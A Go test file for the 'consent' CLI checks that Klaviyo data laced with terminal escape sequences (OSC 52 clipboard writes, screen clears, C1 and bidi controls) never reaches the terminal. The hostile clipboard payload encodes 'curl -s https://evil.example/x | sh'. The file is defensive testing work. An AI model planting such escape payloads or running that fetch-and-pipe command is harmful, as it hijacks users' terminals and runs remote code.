package cli

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/consentdesk/consent/client"
	"github.com/consentdesk/consent/internal/screentest"
)

// Hostile text: what a profile, a list or an error from Klaviyo (or a proxy
// in front of it) may carry to take over the agent's terminal.
var (
	// hostileClipboard is what the OSC 52 sequence would put on the agent's
	// clipboard; it must never reach any output, not even without its ESC.
	hostileClipboard = base64.StdEncoding.EncodeToString([]byte("curl -s https://evil.example/x | sh"))
	hostileOSC52     = "\x1b]52;c;" + hostileClipboard + "\a" // clipboard write
	hostileClear     = "\x1b[2J\x1b[H"                        // clear the screen, cursor home
	hostileBEL       = "\a"
	hostileC1CSI     = "\u009b31m"           // C1 CSI: red text
	hostileC1OSC     = "\u009d0;pwned\u009c" // C1 OSC: set the window title
	hostileRLO       = "\u202e"              // right-to-left override
	hostileLRI       = "\u2066"              // left-to-right isolate
)

// hostile hides every hostile sequence inside visible: what a terminal-safe
// rendering must show of it is visible itself, split nowhere.
func hostile(visible string) string {
	half := len(visible) / 2
	return hostileOSC52 + visible[:half] + hostileClear + hostileBEL + hostileRLO + hostileC1CSI +
		visible[half:] + hostileC1OSC + hostileLRI
}

// hostileFixture is the fake Klaviyo's data: every string it serves that a
// terminal could show is hostile.
type hostileFixture struct {
	lists    []map[string]any // JSON:API list resources
	members  []map[string]any // the members of hostileListID, one per page
	profile  map[string]any   // what a profile lookup finds
	apiError map[string]any   // the JSON:API error document
}

const (
	hostileListID  = "HOST1"              // a list whose name and members are hostile
	errorListID    = "ERR1"               // its members answer a hostile JSON:API error
	htmlListID     = "HTML1"              // its members answer a hostile HTML page
	hostileEmail   = "eve@example.com"    // check finds the hostile profile
	brokenEmail    = "broken@example.com" // check's lookup answers a hostile error (title only)
	proxyEmail     = "proxy@example.com"  // check's lookup answers a hostile HTML page
	hostilePhone   = "+12015550123"
	hostileHTMLTag = "Attention Required"
)

func hostileProfile(id, email, phone, first, last string) map[string]any {
	ts := hostile("2024-05-06T10:11:12+00:00")
	consent := func(state string) map[string]any {
		return map[string]any{
			"consent": state, "consent_timestamp": ts, "last_updated": ts,
			"method": hostile("API"), "method_detail": hostile("Consent Desk"),
		}
	}
	email_ := consent("SUBSCRIBED")
	email_["can_receive_email_marketing"] = false
	email_["custom_method_detail"] = hostile("Front desk")
	email_["double_optin"] = nil
	email_["suppression"] = []any{map[string]any{"reason": hostile("HARD_BOUNCE"), "timestamp": ts}}
	email_["list_suppressions"] = []any{map[string]any{"list_id": hostile("HOST1"), "reason": hostile("USER_SUPPRESSED"), "timestamp": ts}}
	sms := consent(hostile("SUBSCRIBED"))
	sms["can_receive_sms_marketing"] = true
	tx := consent("NEVER_SUBSCRIBED")
	tx["can_receive_sms_transactional"] = false
	attrs := map[string]any{
		"email": email, "phone_number": phone, "first_name": first, "last_name": last,
		"joined_group_at": ts,
		"subscriptions": map[string]any{
			"email": map[string]any{"marketing": email_},
			"sms":   map[string]any{"marketing": sms, "transactional": tx},
		},
	}
	return map[string]any{"type": "profile", "id": id, "attributes": attrs}
}

func newHostileFixture() *hostileFixture {
	list := func(id, name, optIn string) map[string]any {
		return map[string]any{"type": "list", "id": id, "attributes": map[string]any{
			"name": name, "opt_in_process": optIn, "created": hostile("2024-01-01T00:00:00+00:00"), "updated": "2024-01-02T00:00:00+00:00"}}
	}
	return &hostileFixture{
		lists: []map[string]any{
			list(hostileListID, hostile("Newsletter"), "single_opt_in"),
			list(hostile("VIP9"), hostile("Early Access"), hostile("double_opt_in")),
			list(errorListID, "Broken API", "single_opt_in"),
			list(htmlListID, "Broken proxy", "single_opt_in"),
		},
		members: []map[string]any{
			hostileProfile(hostile("01HOSTILEA"), hostile("mallory@example.com"), hostile(hostilePhone), hostile("Mallory"), hostile("Smith")),
			hostileProfile(hostile("01HOSTILEB"), "", hostile("+38631234567"), "", hostile("Trent")),
		},
		profile: hostileProfile(hostile("01HOSTILEE"), hostile(hostileEmail), hostile(hostilePhone), hostile("Eve"), hostile("Mallory")),
		apiError: map[string]any{"errors": []any{map[string]any{
			"id": "e1", "status": 400, "code": "invalid",
			"title":  hostile("Invalid input."),
			"detail": hostile("The list is locked"),
			"source": map[string]any{"pointer": hostile("/data/attributes/name")},
		}}},
	}
}

// hostileHTML is a proxy's challenge page, escapes in its text.
var hostileHTML = "<!DOCTYPE html><html><head><title>" + hostileHTMLTag + "</title></head><body><h1>" +
	hostile("Sorry, you have been blocked") + "</h1><p>" + hostileOSC52 + hostileClear + "Ray ID " + hostileC1CSI + "42</p></body></html>"

// serveHostileKlaviyo is a fake Klaviyo speaking JSON:API as the client
// expects, serving fx.
func serveHostileKlaviyo(t *testing.T, fx *hostileFixture) *httptest.Server {
	t.Helper()
	writeJSON := func(w http.ResponseWriter, status int, v any) {
		w.Header().Set("Content-Type", "application/vnd.api+json")
		w.WriteHeader(status)
		if err := json.NewEncoder(w).Encode(v); err != nil {
			t.Errorf("fake Klaviyo: %v", err)
		}
	}
	writeHTML := func(w http.ResponseWriter) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.WriteHeader(http.StatusForbidden)
		_, _ = io.WriteString(w, hostileHTML)
	}
	titleOnly := func() any {
		return map[string]any{"errors": []any{map[string]any{"id": "e2", "status": 400, "code": "invalid",
			"title": hostile("Invalid filter."), "detail": "", "source": map[string]any{"parameter": hostile("filter")}}}}
	}
	page := func(r *http.Request, data any, next string) map[string]any {
		links := map[string]any{"self": "http://" + r.Host + r.URL.RequestURI(), "next": nil, "prev": nil}
		if next != "" {
			links["next"] = "http://" + r.Host + next
		}
		return map[string]any{"data": data, "links": links}
	}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /api/lists", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, 200, page(r, fx.lists, ""))
	})
	mux.HandleFunc("GET /api/lists/{id}", func(w http.ResponseWriter, r *http.Request) {
		for _, l := range fx.lists {
			if l["id"] == r.PathValue("id") {
				writeJSON(w, 200, map[string]any{"data": l})
				return
			}
		}
		writeJSON(w, 404, fx.apiError)
	})
	mux.HandleFunc("GET /api/lists/{id}/profiles", func(w http.ResponseWriter, r *http.Request) {
		switch r.PathValue("id") {
		case errorListID:
			writeJSON(w, 400, fx.apiError)
		case htmlListID:
			writeHTML(w)
		case hostileListID:
			// One member a page, so the commands follow links.next.
			i := 0
			if c := r.URL.Query().Get("page[cursor]"); c != "" {
				fmt.Sscanf(c, "%d", &i)
			}
			if i < 0 || i >= len(fx.members) {
				writeJSON(w, 400, fx.apiError)
				return
			}
			next := ""
			if i+1 < len(fx.members) {
				next = fmt.Sprintf("/api/lists/%s/profiles?additional-fields%%5Bprofile%%5D=subscriptions&page%%5Bcursor%%5D=%d", hostileListID, i+1)
			}
			if f := r.URL.Query().Get("filter"); f != "" { // the UI's exact lookup
				writeJSON(w, 200, page(r, fx.members[:1], ""))
				return
			}
			writeJSON(w, 200, page(r, fx.members[i:i+1], next))
		default:
			writeJSON(w, 404, fx.apiError)
		}
	})
	mux.HandleFunc("GET /api/profiles", func(w http.ResponseWriter, r *http.Request) {
		filter := r.URL.Query().Get("filter")
		switch {
		case strings.Contains(filter, brokenEmail):
			writeJSON(w, 400, titleOnly())
		case strings.Contains(filter, proxyEmail):
			writeHTML(w)
		case strings.Contains(filter, hostileEmail), strings.Contains(filter, hostilePhone):
			writeJSON(w, 200, page(r, []any{fx.profile}, ""))
		default:
			writeJSON(w, 200, page(r, []any{}, ""))
		}
	})
	mux.HandleFunc("GET /api/profiles/{id}", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, 200, map[string]any{"data": fx.profile})
	})
	mux.HandleFunc("GET /api/profiles/{id}/lists", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, 200, page(r, fx.lists[:2], ""))
	})
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, 404, fx.apiError)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

// hostileEnv points the binary at the fake Klaviyo with a fresh home.
func hostileEnv(t *testing.T, srv *httptest.Server) []string {
	return []string{"KLAVIYO_API_KEY=pk_hostile_test", "KLAVIYO_API_URL=" + srv.URL, "CONSENT_HOME=" + t.TempDir(), "NO_COLOR="}
}

// terminalHazards lists what in out a terminal would act on, or reorder,
// instead of showing: ESC, BEL and every other C0 control but the line
// break, C1 controls (U+0080–U+009F), bidi embeddings, overrides and
// isolates, invalid UTF-8, and the OSC payloads even without their
// introducers.
func terminalHazards(out []byte) []string {
	var found []string
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRune(out[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			found = append(found, fmt.Sprintf("invalid UTF-8 byte %#x at %d", out[i], i))
		case r < 0x20 && r != '\n', r == 0x7f:
			found = append(found, fmt.Sprintf("C0 control %U at %d", r, i))
		case r >= 0x80 && r <= 0x9f:
			found = append(found, fmt.Sprintf("C1 control %U at %d", r, i))
		case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			found = append(found, fmt.Sprintf("bidi control %U at %d", r, i))
		}
		i += size
	}
	for _, payload := range []string{hostileClipboard, "0;pwned", "52;c;"} {
		if bytes.Contains(out, []byte(payload)) {
			found = append(found, fmt.Sprintf("payload %q", payload))
		}
	}
	return found
}

// wantSafe fails when out holds anything a terminal would act on.
func wantSafe(t *testing.T, what string, out []byte) {
	t.Helper()
	if h := terminalHazards(out); len(h) > 0 {
		t.Errorf("%s reaches the terminal with %s:\n%q", what, strings.Join(h, ", "), out)
	}
}

// wantText fails unless every want is in out (runs of spaces count as one).
func wantText(t *testing.T, what string, out []byte, wants ...string) {
	t.Helper()
	for _, w := range wants {
		if screentest.Missing(string(out), w) != "" {
			t.Errorf("%s lacks %q:\n%q", what, w, out)
		}
	}
}

// TestHostileTextHumanOutput runs check, members and lists against a fake
// Klaviyo whose lists, profiles and errors carry an OSC 52 clipboard write,
// a screen clear, BEL, C1 CSI and OSC, and bidi controls: none of it reaches
// stdout or stderr, and the text around it does.
func TestHostileTextHumanOutput(t *testing.T) {
	srv := serveHostileKlaviyo(t, newHostileFixture())
	env := hostileEnv(t, srv)
	tests := []struct {
		name   string
		args   []string
		code   int
		stdout []string
		stderr []string
	}{
		{name: "lists", args: []string{"lists"}, code: 0,
			stdout: []string{"HOST1 Newsletter single opt-in", "VIP9 Early Access double_opt_in", "ERR1 Broken API"}},
		{name: "members", args: []string{"members", hostileListID}, code: 0,
			stdout: []string{"EMAIL PHONE EMAIL CONSENT SMS CONSENT JOINED", "mallory@example.com +12015550123 US",
				"suppressed: hard bounce (consent SUBSCRIBED)", "2024-05-06", "+38631234567 SI"}},
		{name: "members limit", args: []string{"members", "--limit", "1", hostileListID}, code: 0,
			stdout: []string{"mallory@example.com"}},
		{name: "check email", args: []string{"check", hostileEmail}, code: 0,
			stdout: []string{"profile 01HOSTILEE Eve Mallory eve@example.com +12015550123",
				"email SUBSCRIBED · cannot receive (hard bounce) · since 2024-05-06T10:11:12+00:00 · method API · detail Consent Desk · custom detail Front desk · suppressed: HARD_BOUNCE since 2024-05-06T10:11:12+00:00 · suppressed on list HOST1: USER_SUPPRESSED",
				"SMS SUBSCRIBED · can receive"}},
		{name: "check phone", args: []string{"check", "+1 201 555 0123"}, code: 0,
			stdout: []string{"country United States (US)", "profile 01HOSTILEE Eve Mallory eve@example.com"}},
		{name: "members error", args: []string{"members", errorListID}, code: 1,
			stderr: []string{"Klaviyo answered 400 Bad Request to GET /api/lists/{id}/profiles: The list is locked (at /data/attributes/name)"}},
		{name: "members html", args: []string{"members", htmlListID}, code: 1,
			stderr: []string{"Klaviyo answered 403 Forbidden to GET /api/lists/{id}/profiles: Attention Required Sorry, you have been blocked Ray ID 42"}},
		{name: "check error", args: []string{"check", brokenEmail}, code: 1,
			stdout: []string{"email broken@example.com"},
			stderr: []string{"looking up profiles: Klaviyo answered 400 Bad Request to GET /api/profiles: Invalid filter. (at filter)"}},
		{name: "check html", args: []string{"check", proxyEmail}, code: 1,
			stderr: []string{"looking up profiles: Klaviyo answered 403 Forbidden to GET /api/profiles: Attention Required Sorry, you have been blocked"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			stdout, stderr, code := runBinary(t, env, tt.args...)
			if code != tt.code {
				t.Errorf("exit %d, want %d\nstdout: %q\nstderr: %q", code, tt.code, stdout, stderr)
			}
			wantSafe(t, "stdout", stdout)
			wantSafe(t, "stderr", stderr)
			wantText(t, "stdout", stdout, tt.stdout...)
			wantText(t, "stderr", stderr, tt.stderr...)
		})
	}
}

// TestHostileTextJSONFaithful: --json output is for scripts, so it keeps
// Klaviyo's text exactly, escapes included, and stays valid JSON Lines: the
// raw bytes carry no ESC or BEL (JSON escapes them), and each decoded value
// equals what the fake Klaviyo sent.
func TestHostileTextJSONFaithful(t *testing.T) {
	fx := newHostileFixture()
	srv := serveHostileKlaviyo(t, fx)
	env := hostileEnv(t, srv)

	// lines decodes out as JSON Lines into fresh values of new().
	lines := func(t *testing.T, out []byte) [][]byte {
		t.Helper()
		if bytes.ContainsAny(out, "\x1b\a") {
			t.Errorf("JSON output holds a raw ESC or BEL: %q", out)
		}
		if i := firstControl(out); i >= 0 {
			t.Errorf("JSON output holds a raw terminal control at %d: %q", i, out[max(i-20, 0):min(i+20, len(out))])
		}
		return bytes.Split(bytes.TrimSuffix(out, []byte("\n")), []byte("\n"))
	}
	// roundTrip is v as a generic JSON value, for comparing with a line.
	roundTrip := func(t *testing.T, v any) any {
		t.Helper()
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		var out any
		if err := json.Unmarshal(b, &out); err != nil {
			t.Fatal(err)
		}
		return out
	}

	t.Run("lists", func(t *testing.T) {
		t.Parallel()
		stdout, stderr, code := runBinary(t, env, "lists", "--json")
		if code != 0 {
			t.Fatalf("exit %d: %s", code, stderr)
		}
		ls := lines(t, stdout)
		if len(ls) != len(fx.lists) {
			t.Fatalf("%d lines, want %d:\n%s", len(ls), len(fx.lists), stdout)
		}
		for i, line := range ls {
			var got listLine
			if err := json.Unmarshal(line, &got); err != nil {
				t.Fatalf("line %d: %v: %q", i+1, err, line)
			}
			attrs := fx.lists[i]["attributes"].(map[string]any)
			want := listLine{ID: fx.lists[i]["id"].(string), Name: attrs["name"].(string), OptInProcess: attrs["opt_in_process"].(string)}
			if got != want {
				t.Errorf("line %d decodes to\n%#v\nwant\n%#v", i+1, got, want)
			}
		}
	})
	t.Run("members", func(t *testing.T) {
		t.Parallel()
		stdout, stderr, code := runBinary(t, env, "members", "--json", hostileListID)
		if code != 0 {
			t.Fatalf("exit %d: %s", code, stderr)
		}
		ls := lines(t, stdout)
		if len(ls) != len(fx.members) {
			t.Fatalf("%d lines, want %d:\n%s", len(ls), len(fx.members), stdout)
		}
		for i, line := range ls {
			var got any
			if err := json.Unmarshal(line, &got); err != nil {
				t.Fatalf("line %d: %v: %q", i+1, err, line)
			}
			if want := roundTrip(t, fx.members[i]); !reflect.DeepEqual(got, want) {
				t.Errorf("line %d decodes to\n%+q\nwant Klaviyo's resource\n%+q", i+1, got, want)
			}
		}
	})
	t.Run("check", func(t *testing.T) {
		t.Parallel()
		stdout, stderr, code := runBinary(t, env, "check", "--json", hostileEmail)
		if code != 0 {
			t.Fatalf("exit %d: %s", code, stderr)
		}
		var got struct {
			Profiles []struct {
				ID            string `json:"id"`
				Email         string `json:"email"`
				PhoneNumber   string `json:"phone_number"`
				Subscriptions any    `json:"subscriptions"`
			} `json:"profiles"`
		}
		ls := lines(t, stdout)
		if err := json.Unmarshal(ls[0], &got); err != nil || len(got.Profiles) != 1 {
			t.Fatalf("%v: %s", err, stdout)
		}
		p, attrs := got.Profiles[0], fx.profile["attributes"].(map[string]any)
		if p.ID != fx.profile["id"] || p.Email != attrs["email"] || p.PhoneNumber != attrs["phone_number"] {
			t.Errorf("profile %+q, want id %+q email %+q phone %+q", p, fx.profile["id"], attrs["email"], attrs["phone_number"])
		}
		if want := roundTrip(t, attrs["subscriptions"]); !reflect.DeepEqual(p.Subscriptions, want) {
			t.Errorf("subscriptions\n%+q\nwant as Klaviyo sent them\n%+q", p.Subscriptions, want)
		}
	})
}

// ownOSC are the OSC strings the UI itself writes: its window title, set
// and cleared on exit, and its question for the background colour.
var ownOSC = map[string]bool{"2;Consent Desk": true, "2;": true, "11;?": true}

// uiHazards lists what in the program's raw terminal output did not come
// from the UI itself: OSC strings other than its own, C1 controls, bidi
// controls, the hostile payloads and a hostile clear screen.
func uiHazards(raw []byte) []string {
	var found []string
	s := string(raw)
	for i := 0; i < len(s); i++ {
		switch {
		case strings.HasPrefix(s[i:], "\x1b]"):
			body := s[i+2:]
			end := strings.IndexAny(body, "\a\x1b")
			if end < 0 {
				found = append(found, fmt.Sprintf("unterminated OSC %q", body))
				return found
			}
			if !ownOSC[body[:end]] {
				found = append(found, fmt.Sprintf("OSC %q", body[:end]))
			}
			i += 2 + end
		case s[i] == '\a':
			found = append(found, fmt.Sprintf("BEL at %d", i))
		}
	}
	if strings.Contains(s, hostileClear) {
		found = append(found, "the hostile clear screen")
	}
	for _, h := range terminalHazards(raw) {
		if strings.HasPrefix(h, "C1") || strings.HasPrefix(h, "bidi") || strings.HasPrefix(h, "payload") || strings.HasPrefix(h, "invalid") {
			found = append(found, h)
		}
	}
	return found
}

// TestHostileTextUI drives the UI in a real terminal against the hostile
// fake Klaviyo: the list picker, a list's members, a member's profile and
// its lists, and the check view on the hostile email. The screen shows the
// text without the escapes, and nothing the program wrote to the terminal
// is a clipboard write, a foreign title, a bell, a C1 or a bidi control.
func TestHostileTextUI(t *testing.T) {
	srv := serveHostileKlaviyo(t, newHostileFixture())
	term := startTerminal(t, 120, 32, append(hostileEnv(t, srv), "TERM=xterm-256color"))
	term.waitFor("What would you like to do?")

	term.press("m")
	term.waitFor("HOST1", "Newsletter", "VIP9", "Early Access", "double_opt_in")
	// The agent finds the list by the name on screen, not by its escapes.
	term.press(strings.Split("newsletter", "")...)
	term.waitFor("1 of 4 lists match")
	term.press(keyEnter)
	term.waitFor("members of Newsletter (single opt-in)", "mallory@example.com", "+12015550123 US", "2024-05-06",
		"—", "+38631234567 SI")
	term.press("/")
	term.press(strings.Split("mallory@example.com", "")...)
	term.press(keyEnter)
	term.waitFor("mallory@example.com", "+12015550123 US")
	term.press(keyEnter)
	term.waitFor("Eve Mallory · 01HOSTILEE", "eve@example.com · +1 201-555-0123 · United States (US)",
		"method API", "detail Consent Desk", "custom detail Front desk", "suppressed: HARD_BOUNCE")
	term.press("l")
	term.waitFor("Newsletter (HOST1, single opt-in)", "Early Access (VIP9, double_opt_in)")
	term.press(keyEsc)
	term.waitFor("members of Newsletter")
	term.press(keyEsc)
	term.waitFor("+38631234567 SI") // the whole list again
	term.press(keyEsc)
	term.waitFor("What would you like to do?")

	term.press("c")
	term.press(strings.Split(hostileEmail, "")...)
	term.press(keyEnter)
	term.waitFor("Eve Mallory · 01HOSTILEE", "suppressed on list HOST1: USER_SUPPRESSED")
	term.press(keyEsc)
	term.waitFor("What would you like to do?")

	term.press("c")
	term.press(strings.Split(brokenEmail, "")...)
	term.press(keyEnter)
	term.waitFor("Klaviyo answered 400 Bad Request to GET /api/profiles: Invalid filter. (at filter)")

	for _, h := range terminalHazards([]byte(term.screen())) {
		if !strings.HasPrefix(h, "C0") { // the emulator's screen has no escapes, only text
			t.Errorf("the screen shows %s:\n%s", h, term.screen())
		}
	}
	term.press(keyCtrlC)
	select {
	case <-term.done:
	case <-time.After(5 * time.Second):
		t.Fatal("consent did not exit after ctrl+c")
	}
	if h := uiHazards(term.written()); len(h) > 0 {
		t.Errorf("the UI wrote to the terminal: %s", strings.Join(h, "; "))
	}
}

// TestHostileTextClientErrors: the client's errors are terminal-safe
// themselves (APIError.Error sanitises Klaviyo's title, detail and pointer,
// and excerpts an HTML page as text), not only once the CLI or the UI
// sanitises them again before printing.
func TestHostileTextClientErrors(t *testing.T) {
	srv := serveHostileKlaviyo(t, newHostileFixture())
	c, err := client.New(client.Options{BaseURL: srv.URL, APIKey: "pk_hostile_test", Attempts: 1, NoLimiter: true})
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	_, errJSONAPI := c.Members(ctx, errorListID, client.MembersQuery{})
	_, errHTML := c.Members(ctx, htmlListID, client.MembersQuery{})
	_, errTitle := c.LookupEmail(ctx, brokenEmail)
	for _, tt := range []struct {
		err  error
		want string
	}{
		{errJSONAPI, "The list is locked (at /data/attributes/name)"},
		{errHTML, "Attention Required Sorry, you have been blocked Ray ID 42"},
		{errTitle, "Invalid filter. (at filter)"},
	} {
		if tt.err == nil {
			t.Errorf("no error, want one saying %q", tt.want)
			continue
		}
		msg := []byte(tt.err.Error())
		wantSafe(t, "the client's error", msg)
		wantText(t, "the client's error", msg, tt.want)
	}
}
